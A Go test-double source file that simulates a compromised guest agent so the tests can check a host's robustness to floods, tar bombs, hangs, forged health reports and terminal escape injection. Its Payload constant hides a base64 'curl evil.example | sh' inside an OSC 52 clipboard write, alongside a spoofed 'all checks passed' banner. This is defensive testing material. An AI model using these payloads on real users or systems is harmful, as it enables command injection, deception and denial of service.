package main

// The hostile agent: what an attacker who owns the box (root, the agent
// replaced) can send the host over the relay, or through smolvm exec (a
// verb run directly turns hostile the same way). A relayed verb turns hostile
// when a file names its case: <root>/.testagent/hostile/VERB.SUB.ARG,
// .../VERB.SUB or .../VERB in the machine (the first that exists:
// health.--json.--deep is the deep report alone), or the same names in the
// fake smolvm's state directory (<root>/../../../hostile), which every
// machine, candidates too, sees. Each call that meets a case adds a line to
// NAME.hits beside the file, its argv as a JSON array; "hang" also records
// that it was reached (NAME.reached) and when the host let go of the call
// (NAME.released); "from:N:CASE" lets the first N-1 calls through, then
// is CASE; "once:CASE" is CASE for the first call, and removes the file;
// "stream:NAME" answers snapshot chunks with chunkwiretest's stream NAME.
// Everything here stays on the relay's stdout and stderr: nothing is sent
// anywhere but back to the host that asked.

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"github.com/hermes-box/hermes-box/shared/chunkwire/chunkwiretest"
	"github.com/hermes-box/hermes-box/shared/hangup"
	"github.com/hermes-box/hermes-box/shared/health"
	"github.com/hermes-box/hermes-box/shared/protocol"
)

// Payload is what the escape case writes wherever text goes: an OSC 52
// clipboard write, a window title, a cleared screen and a forged verdict.
const Payload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;hermes-box: all good\x07\x1b[2J\x1b[H\x9b1m all checks passed \u202e\xff"

// floodBytes is how much a flood sends at most (the host must stop it far
// earlier).
const floodBytes = 1 << 30

// hostile runs case c for the request, or returns false when the verb has
// no hostile case.
func (t *agent) hostile(req protocol.Request) (int, bool) {
	file, c := t.hostileCase(req.Argv)
	if c == "" {
		return 0, false
	}
	t.record([]string{"hostile:", c})
	// NAME.hits beside the file lists the calls that met the case: a case
	// file serves verbs that share a name (health and health --deep).
	if f, err := os.OpenFile(file+".hits", os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o644); err == nil {
		line, _ := json.Marshal(req.Argv)
		f.Write(append(line, '\n'))
		f.Close()
	}
	// "from:N:CASE" lets the first N-1 calls through; then "once:CASE"
	// meets the first call it reaches only: the file goes.
	if rest, ok := strings.CutPrefix(c, "from:"); ok {
		n, inner, _ := strings.Cut(rest, ":")
		calls := strings.Count(readFile(file+".calls"), "x") + 1
		os.WriteFile(file+".calls", []byte(strings.Repeat("x", calls)), 0o644)
		if from, _ := strconv.Atoi(n); calls < from {
			return 0, false
		}
		c = inner
	}
	if inner, ok := strings.CutPrefix(c, "once:"); ok {
		os.Remove(file)
		c = inner
	}
	if d, ok := strings.CutPrefix(c, "drip:"); ok {
		return t.drip(req, d), true
	}
	if n, ok := strings.CutPrefix(c, "steps:"); ok {
		return t.steps(req, n), true
	}
	if name, ok := strings.CutPrefix(c, "stream:"); ok {
		return t.stream(name), true
	}
	switch c {
	case "escape":
		return t.escape(req), true
	case "flood-stdout":
		return flood(os.Stdout, []byte(`{"schemaVersion":1,"x":"`), []byte("A")), true
	case "flood-stderr-line":
		return flood(os.Stderr, nil, []byte("B")), true
	case "flood-events":
		return t.floodEvents(), true
	case "tar-names":
		return tarNames(os.Stdout), true
	case "oversize":
		return oversize(os.Stdout), true
	case "hang":
		os.WriteFile(file+".reached", nil, 0o644)
		if hang() {
			os.WriteFile(file+".released", nil, 0o644)
		}
		return 0, true
	case "gate-skipped":
		return t.gateSkipped(req), true
	case "then-exit-1":
		return t.realThen(req, func(io.Writer) int { return 1 }), true
	case "forge":
		return t.forgeProof(), true
	case "vmm-denies":
		return t.vmmDenies(req), true
	case "then-pad":
		return t.realThen(req, func(w io.Writer) int { return flood(w, nil, []byte("P")) }), true
	}
	t.fail("unknown hostile case %q", c)
	return 2, true
}

// hostileCase finds the case file of argv and reads it.
func (t *agent) hostileCase(argv []string) (string, string) {
	names := []string{argv[0]}
	if len(argv) > 1 {
		names = []string{argv[0] + "." + argv[1], argv[0]}
	}
	if len(argv) > 2 {
		names = append([]string{argv[0] + "." + argv[1] + "." + argv[2]}, names...)
	}
	for _, dir := range []string{t.path("hostile"), filepath.Join(t.root, "..", "..", "..", "hostile")} {
		for _, n := range names {
			f := filepath.Join(dir, n)
			if c := strings.TrimSpace(readFile(f)); c != "" {
				return f, c
			}
		}
	}
	return "", ""
}

// escape puts the payload in every field a person may see: events (message,
// step, fields), a raw stderr line, and the verb's output (a health report
// for health, text otherwise).
func (t *agent) escape(req protocol.Request) int {
	t.events.Emit(protocol.Event{Type: protocol.EventLog, Level: protocol.LevelWarn, Message: Payload,
		Fields: map[string]string{"k": Payload}})
	t.events.Emit(protocol.Event{Type: protocol.EventStep, Step: Payload, State: protocol.StepFailed, Message: Payload})
	fmt.Fprintf(os.Stderr, "raw stderr %s\n", Payload)
	if req.Argv[0] != "health" {
		fmt.Fprintf(os.Stdout, "output %s\n", Payload)
		return 1
	}
	now := time.Now().UTC()
	r := health.Report{SchemaVersion: health.SchemaVersion, Time: now, Status: health.StatusHealthy,
		Checks: map[health.Code]health.Check{
			"sshd-listening":     {Status: health.StatusHealthy, Severity: health.SeverityCritical, Message: Payload, Since: now},
			health.Code(Payload): {Status: health.StatusHealthy, Severity: health.SeverityInfo, Message: "x", Since: now},
		},
		Services: []health.Service{{Name: Payload, State: health.ServiceRunning}}}
	r.Agent.Version = Payload
	json.NewEncoder(os.Stdout).Encode(r)
	return 0
}

// gateSkipped answers health as a box whose gate step was skipped: the
// real report with a failed "gate" check, which the agent downplays as
// info to slip past the host.
func (t *agent) gateSkipped(req protocol.Request) int {
	var out bytes.Buffer
	if code, err := t.relayReal(req, &out); err != nil || code != 0 {
		t.fail("health: exit %d, %v", code, err)
		return 1
	}
	var r health.Report
	if err := json.Unmarshal(out.Bytes(), &r); err != nil {
		t.fail("health: %v", err)
		return 1
	}
	r.Checks[health.CheckGate] = health.Check{Status: health.StatusUnhealthy, Severity: health.SeverityInfo,
		Message: "gated-approval step skipped (skipGate)", Since: time.Now().UTC()}
	r.Gate = &health.Gate{Mechanism: "none", EffectiveMode: "off", IntendedMode: "gated", Problems: []string{"gate step skipped"}}
	r.Summarize()
	json.NewEncoder(os.Stdout).Encode(r)
	return 0
}

// realThen answers as the real agent does, then runs tail on stdout and
// exits with its status: the whole answer sent, then a failure or padding.
func (t *agent) realThen(req protocol.Request, tail func(io.Writer) int) int {
	if code, err := t.relayReal(req, os.Stdout); err != nil || code != 0 {
		t.fail("%s: exit %d, %v", req.Argv[0], code, err)
		return 1
	}
	return tail(os.Stdout)
}

// relayReal runs req through the real agent's relay (a direct verb: this
// program again, without the case), with the rest of stdin, its output to
// stdout, and returns its exit status; the error is for an agent that
// could not run.
func (t *agent) relayReal(req protocol.Request, stdout io.Writer) (int, error) {
	// Captured output is a pipe the real agent's own watch sees open for
	// as long as this process lives: when the host hangs up (Ctrl-C on
	// logs -f while a drip collects the answer), the real agent must end
	// with this stand-in, not stay behind following a quiet log.
	ctx := context.Background()
	if stdout != io.Writer(os.Stdout) {
		var stop func()
		ctx, stop = hangup.Watch(ctx, os.Stdout)
		defer stop()
	}
	var cmd *exec.Cmd
	if t.direct {
		self, err := os.Executable()
		if err != nil {
			return 2, err
		}
		cmd = exec.CommandContext(ctx, self, append([]string{"--root", t.root}, req.Argv...)...)
		cmd.Env = append(os.Environ(), plainEnv+"=1")
		cmd.Stdin = t.in
	} else {
		var line bytes.Buffer
		if err := protocol.WriteRequest(&line, req); err != nil {
			return 2, err
		}
		cmd = exec.CommandContext(ctx, realAgent, "--root", t.root, "relay")
		cmd.Stdin = io.MultiReader(&line, t.in)
	}
	cmd.Stdout, cmd.Stderr = stdout, os.Stderr
	if err := cmd.Start(); err != nil {
		return 2, err
	}
	err := cmd.Wait()
	var ee *exec.ExitError
	if errors.As(err, &ee) {
		return ee.ExitCode(), nil
	}
	return 0, err
}

// flood writes prefix, then fill until floodBytes or a write fails.
func flood(w io.Writer, prefix, fill []byte) int {
	w.Write(prefix)
	chunk := bytes.Repeat(fill, 64<<10)
	for sent := 0; sent < floodBytes; sent += len(chunk) {
		if _, err := w.Write(chunk); err != nil {
			return 1
		}
	}
	return 0
}

// floodEvents emits progress events under ever new step names, and events
// with 1 MiB messages.
func (t *agent) floodEvents() int {
	big := strings.Repeat("M", 1<<20-256)
	for i := 0; i < 200_000; i++ {
		err := t.events.Emit(protocol.Event{Type: protocol.EventProgress, Step: fmt.Sprintf("step-%d-%s", i, strings.Repeat("s", 200)),
			Progress: &protocol.Progress{Current: int64(i % 10), Total: 10}})
		if err != nil {
			return 1
		}
		if i%100 == 0 {
			if err := t.events.Emit(protocol.Event{Type: protocol.EventLog, Level: protocol.LevelWarn, Message: big}); err != nil {
				return 1
			}
		}
	}
	return 0
}

// stream answers snapshot chunks with chunkwiretest's hostile stream
// name: the host's held list read from stdin, the stream on stdout.
func (t *agent) stream(name string) int {
	c, ok := chunkwiretest.Find(name)
	if !ok {
		t.fail("unknown hostile stream %q", name)
		return 2
	}
	if err := chunkwiretest.Write(c, t.in, os.Stdout); err != nil {
		t.fail("stream %s: %v", name, err)
		return 1
	}
	return 0
}

// tarNames streams a gzip tar whose entries have names of almost 1 MiB
// (archive/tar's most): tiny compressed, huge unpacked.
func tarNames(w io.Writer) int {
	zw := gzip.NewWriter(w)
	tw := tar.NewWriter(zw)
	base := strings.Repeat("n", 1<<20-1024)
	for i := 0; i < 100_000; i++ {
		hdr := &tar.Header{Name: fmt.Sprintf("%s%d", base, i), Mode: 0o644, Typeflag: tar.TypeReg, Format: tar.FormatPAX}
		if err := tw.WriteHeader(hdr); err != nil {
			return 1
		}
		if err := zw.Flush(); err != nil {
			return 1
		}
	}
	tw.Close()
	zw.Close()
	return 0
}

// oversize streams a valid gzip tar of incompressible bytes, far larger
// than the box's disks would allow in the test's configuration.
func oversize(w io.Writer) int {
	zw, _ := gzip.NewWriterLevel(w, gzip.NoCompression)
	tw := tar.NewWriter(zw)
	const size = 1 << 30
	if err := tw.WriteHeader(&tar.Header{Name: "big", Mode: 0o644, Size: size, Typeflag: tar.TypeReg}); err != nil {
		return 1
	}
	if _, err := io.CopyN(tw, rand.NewChaCha8([32]byte{7}), size); err != nil {
		return 1
	}
	tw.Close()
	zw.Close()
	return 0
}

// drip answers as the real agent does, but slowly: the answer in
// dripParts parts, one every d/dripParts from the call, so that the last
// comes a little before d (a verb's deadline, or its idle deadline
// repeated).
func (t *agent) drip(req protocol.Request, d string) int {
	total, err := time.ParseDuration(d)
	if err != nil {
		t.fail("drip: %v", err)
		return 2
	}
	start := time.Now()
	var out bytes.Buffer
	code, err := t.relayReal(req, &out)
	if err != nil {
		t.fail("%s: %v", req.Argv[0], err)
		return 1
	}
	answer := out.Bytes()
	part := max(1, (len(answer)+dripParts-1)/dripParts)
	for i := range dripParts {
		// Counted from the call: the time the real answer took (long on
		// a loaded machine) is part of the drip.
		time.Sleep(time.Until(start.Add(total * time.Duration(i+1) / dripParts)))
		if lo := i * part; lo < len(answer) {
			os.Stdout.Write(answer[lo:min(len(answer), lo+part)])
		}
		// Progress the host can see even when the answer is empty.
		t.events.Emit(protocol.Event{Type: protocol.EventLog, Level: protocol.LevelDebug, Message: "drip"})
	}
	return code
}

// dripParts is how many parts a drip sends.
const dripParts = 4

// steps emits n events under distinct step names of 200 bytes, then
// answers as the real agent does.
func (t *agent) steps(req protocol.Request, n string) int {
	count, err := strconv.Atoi(n)
	if err != nil {
		t.fail("steps: %v", err)
		return 2
	}
	for i := range count {
		t.events.Emit(protocol.Event{Type: protocol.EventStep, Step: fmt.Sprintf("step-%d-%s", i, strings.Repeat("s", 200)), State: protocol.StepStarted})
	}
	return t.realThen(req, func(io.Writer) int { return 0 })
}

// hang waits for an hour, or until the process that ran this one (the
// sshd session, smolvm exec) is gone, which is when the host has hung up:
// a hung verb does not outlive its caller by an hour. It reports whether
// the host let go of the call.
func hang() bool {
	parent := os.Getppid()
	// Under sshd the parent is the login shell of the forced command,
	// which outlives the session: the session's end shows on stdout.
	gone, stop := hangup.Watch(context.Background(), os.Stdout)
	defer stop()
	for deadline := time.Now().Add(time.Hour); time.Now().Before(deadline); {
		if os.Getppid() != parent {
			return true
		}
		select {
		case <-gone.Done():
			return true
		case <-time.After(100 * time.Millisecond):
		}
	}
	return false
}
